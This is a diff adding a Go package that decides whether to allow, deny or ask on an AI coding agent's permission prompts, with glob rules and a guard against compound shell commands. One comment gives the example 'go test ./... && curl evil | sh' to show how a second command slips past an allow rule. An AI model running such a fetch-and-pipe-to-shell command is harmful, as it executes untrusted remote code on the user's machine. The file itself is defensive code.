@@ -0,0 +1,248 @@
+// Package policy decides how to answer permission prompts from ordered
+// allow/deny/ask rules.
+package policy
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+
+	"github.com/valentindosimont/ccmanager/internal/claude"
+	"github.com/valentindosimont/ccmanager/internal/config"
+)
+
+// Outcome is what a rule decides for a prompt
+type Outcome int
+
+const (
+	Ask   Outcome = iota // leave the prompt for a human
+	Allow                // approve once
+	Deny                 // refuse
+)
+
+func (o Outcome) String() string {
+	switch o {
+	case Allow:
+		return "allow"
+	case Deny:
+		return "deny"
+	default:
+		return "ask"
+	}
+}
+
+// Answer returns the dialog answer for an outcome, false for Ask
+func (o Outcome) Answer() (claude.Answer, bool) {
+	switch o {
+	case Allow:
+		return claude.AnswerYes, true
+	case Deny:
+		return claude.AnswerNo, true
+	default:
+		return 0, false
+	}
+}
+
+func parseOutcome(s string) (Outcome, error) {
+	switch strings.ToLower(s) {
+	case "allow":
+		return Allow, nil
+	case "deny":
+		return Deny, nil
+	case "ask":
+		return Ask, nil
+	default:
+		return Ask, fmt.Errorf("action must be allow, deny or ask, got %q", s)
+	}
+}
+
+// Request is a permission prompt waiting in a session
+type Request struct {
+	Session    string
+	WorkingDir string
+	Permission *claude.PermissionRequest
+}
+
+// Decision is the outcome for a request and the rule that produced it
+type Decision struct {
+	Outcome Outcome
+	Rule    string // "" when no rule matched
+	Reason  string // why the rule's outcome was overridden, if it was
+	DryRun  bool
+}
+
+// String describes the decision for the activity log
+func (d Decision) String() string {
+	rule := d.Rule
+	if rule == "" {
+		rule = "no matching rule"
+	}
+	if d.Reason != "" {
+		rule += ": " + d.Reason
+	}
+	if d.DryRun && d.Outcome != Ask {
+		return fmt.Sprintf("would %s (%s, dry run)", d.Outcome, rule)
+	}
+	return fmt.Sprintf("%s (%s)", d.Outcome, rule)
+}
+
+type rule struct {
+	name     string
+	tool     string
+	command  *regexp.Regexp
+	path     string
+	session  *regexp.Regexp
+	repo     *regexp.Regexp
+	outcome  Outcome
+	compound bool
+}
+
+// Policy evaluates permission prompts against ordered rules
+type Policy struct {
+	rules  []rule
+	dryRun bool
+}
+
+// New compiles the policy in cfg. It returns nil, which always asks, when no
+// rules are configured.
+func New(cfg config.PolicyConfig) (*Policy, error) {
+	if len(cfg.Rules) == 0 {
+		return nil, nil
+	}
+
+	p := &Policy{dryRun: cfg.DryRun}
+	for i, rc := range cfg.Rules {
+		name := rc.Name
+		if name == "" {
+			name = fmt.Sprintf("rule %d", i+1)
+		}
+		field := fmt.Sprintf("policy.rules[%d]", i)
+
+		outcome, err := parseOutcome(rc.Action)
+		if err != nil {
+			return nil, fmt.Errorf("%s (%s): %w", field, name, err)
+		}
+		r := rule{
+			name:     name,
+			tool:     rc.Tool,
+			path:     expandHome(rc.Path),
+			outcome:  outcome,
+			compound: rc.Compound,
+		}
+		if rc.Command != "" {
+			r.command = globRegexp(rc.Command)
+		}
+		if rc.Session != "" {
+			r.session = globRegexp(rc.Session)
+		}
+		if rc.Repo != "" {
+			r.repo = globRegexp(expandHome(rc.Repo))
+		}
+		p.rules = append(p.rules, r)
+	}
+	return p, nil
+}
+
+// DryRun reports whether decisions are only logged, not sent
+func (p *Policy) DryRun() bool {
+	return p != nil && p.dryRun
+}
+
+// Evaluate returns the outcome of the first rule matching req, or Ask
+func (p *Policy) Evaluate(req Request) Decision {
+	if p == nil || req.Permission == nil {
+		return Decision{Outcome: Ask}
+	}
+	for _, r := range p.rules {
+		if !r.matches(req) {
+			continue
+		}
+		// A glob's * matches operators and newlines too, so "go test *"
+		// would approve "go test ./... && curl evil | sh"
+		if r.outcome == Allow && r.command != nil && !r.compound && compoundCommand(req.Permission.Command) {
+			return Decision{Outcome: Ask, Rule: r.name, Reason: "compound command", DryRun: p.dryRun}
+		}
+		return Decision{Outcome: r.outcome, Rule: r.name, DryRun: p.dryRun}
+	}
+	return Decision{Outcome: Ask, DryRun: p.dryRun}
+}
+
+func (r rule) matches(req Request) bool {
+	perm := req.Permission
+	if r.tool != "" && r.tool != "*" && !strings.EqualFold(r.tool, perm.Tool) {
+		return false
+	}
+	if r.command != nil && (perm.Command == "" || !r.command.MatchString(perm.Command)) {
+		return false
+	}
+	if r.path != "" && !withinPath(resolve(req.WorkingDir, perm.Path), resolve(req.WorkingDir, r.path)) {
+		return false
+	}
+	if r.session != nil && !r.session.MatchString(req.Session) {
+		return false
+	}
+	if r.repo != nil && !r.repo.MatchString(req.WorkingDir) && !r.repo.MatchString(filepath.Base(req.WorkingDir)) {
+		return false
+	}
+	return true
+}
+
+// globRegexp compiles a glob where * matches anything, including spaces,
+// slashes and newlines, and ? matches one character
+func globRegexp(glob string) *regexp.Regexp {
+	var b strings.Builder
+	b.WriteString("(?s)^")
+	for _, r := range glob {
+		switch r {
+		case '*':
+			b.WriteString(".*")
+		case '?':
+			b.WriteString(".")
+		default:
+			b.WriteString(regexp.QuoteMeta(string(r)))
+		}
+	}
+	b.WriteString("$")
+	return regexp.MustCompile(b.String())
+}
+
+// compoundCommand reports whether cmd runs more than a single simple command:
+// it spans several lines, or uses shell operators such as ;, &&, |, $( or
+// redirections. Quoting isn't parsed, so quoted operators count too.
+func compoundCommand(cmd string) bool {
+	return strings.ContainsAny(cmd, ";&|`<>\n") || strings.Contains(cmd, "$(")
+}
+
+// resolve makes path absolute relative to dir. Relative paths can't be
+// resolved without a dir, so they're returned as "".
+func resolve(dir, path string) string {
+	if path == "" {
+		return ""
+	}
+	if !filepath.IsAbs(path) {
+		if dir == "" {
+			return ""
+		}
+		path = filepath.Join(dir, path)
+	}
+	return filepath.Clean(path)
+}
+
+func withinPath(path, prefix string) bool {
+	if path == "" || prefix == "" {
+		return false
+	}
+	return path == prefix || strings.HasPrefix(path, strings.TrimSuffix(prefix, "/")+"/")
+}
+
+func expandHome(path string) string {
+	if strings.HasPrefix(path, "~/") {
+		home, err := os.UserHomeDir()
+		if err == nil {
+			return filepath.Join(home, path[2:])
+		}
+	}
+	return path
+}